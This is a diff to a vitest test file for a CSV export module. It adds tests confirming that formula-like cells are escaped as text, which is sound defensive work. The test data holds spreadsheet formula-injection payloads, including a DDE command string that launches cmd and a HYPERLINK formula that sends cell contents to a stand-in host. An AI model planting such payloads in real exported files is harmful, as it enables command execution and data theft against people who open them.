@@ -1,3 +1,4 @@
+import papa from 'papaparse';
 import { expect, test } from 'vitest';
 import { fail, succeed } from '../../shared/failure.ts';
 import { csvTableOf, csvText } from './csv-export.ts';
@@ -21,6 +22,20 @@ test('a cell that a spreadsheet would run is defused; amounts and commas stay wh
     `"'@sum",0.00`,
     '"Fade, slow",1.05',
   ]);
+});
+
+test.each([
+  `-2+3+cmd|' /C calc'!A0`,
+  '+1+HYPERLINK("http://evil.example"&B2)',
+  '=1\n+2',
+  '-1.2.3',
+  '\n=1',
+  '\t=1',
+  '＝1',
+])('%j is text in every spreadsheet', async (cell) => {
+  const text = await csvText({ name: 'transfers', columns: ['Note'], rows: [[cell]] });
+  const written = papa.parse<string[]>(text.slice(1)).data[1]?.[0];
+  expect(written).toBe(`'${cell}`);
 });
 
 test('a file has the columns that say what they write, and the rows in the order shown', async () => {
